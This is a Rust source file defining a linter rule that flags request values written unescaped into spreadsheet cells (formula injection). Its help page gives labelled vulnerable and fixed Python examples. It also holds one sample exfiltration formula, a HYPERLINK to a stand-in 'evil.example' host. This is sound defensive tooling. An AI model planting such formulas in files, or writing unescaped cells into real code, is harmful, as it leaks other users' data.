//! `user-input-in-spreadsheet`: a value of the request becomes a cell of a spreadsheet, as it is.

use model::{Persona, Severity, Weakness};

use super::flow::Says;
use super::{Check, Rule, flow};
use crate::flows::Use;

pub(super) const RULE: Rule = Rule {
    name: "user-input-in-spreadsheet",
    weakness: Weakness::FormulaInjection,
    severity: Severity::Low,
    persona: Persona::Auditor,
    summary: "a value of the request becomes a cell of a spreadsheet, as it is",
    page: PAGE,
    checks: &[Check::Flow(Use::Cell, Says { becomes: "becomes a cell of a spreadsheet", fix: FIX, counts: flow::always, judged: flow::as_it_is })],
};

const PAGE: &str = r#"## What it does

Follows what a client sends to the cells that `csv`, `openpyxl`, `xlsxwriter`, `tablib` and `pandas` write. A text that something else stands before is no formula; neither is one that was found
not to begin with `=`, `+`, `-` or `@`. Columns of numbers and dates are silent.

## Why is this bad?

Excel and its like run what begins with `=` (and `+`, `-`, `@`): `=HYPERLINK("https://evil.example/?"&A1)` sends the row of somebody else to whoever wrote the cell, once the one who opened the file
clicks.

## Example

```python bad
import csv
import io

from fastapi import FastAPI, Response

app = FastAPI()


@app.get("/report.csv")
def report(title: str):
    text = io.StringIO()
    csv.writer(text).writerow([title, 17])  # <- here
    return Response(text.getvalue(), media_type="text/csv")
```

```python bad
import csv
import sys

from flask import Flask, request

app = Flask(__name__)


@app.post("/rows")
def add():
    rows = csv.DictWriter(sys.stdout, ["name", "size"])
    rows.writerow({"name": request.form["name"], "size": 3})  # <- here
    return {"ok": True}
```

Use instead:

```python good
import csv
import io

from fastapi import FastAPI, Response

app = FastAPI()


@app.get("/report.csv")
def report(title: str):
    text = io.StringIO()
    csv.writer(text).writerow([f"'{title}", 17])
    return Response(text.getvalue(), media_type="text/csv")
```

```python good
import csv
import sys

from flask import Flask, abort, request

app = Flask(__name__)


@app.post("/rows")
def add():
    name = request.form["name"]
    if name.startswith(("=", "+", "-", "@", "\t", "\r")):
        abort(400)
    rows = csv.DictWriter(sys.stdout, ["name", "size"])
    rows.writerow({"name": name, "size": 3})
    return {"ok": True}
```

## Fix

Put a `'` before what begins with one of `=+-@`, a tab or a carriage return; `xlsxwriter.Workbook(path, {"strings_to_formulas": False})`.
"#;

const FIX: &str = "put a `'` before what begins with one of `=+-@`, a tab or a carriage return";
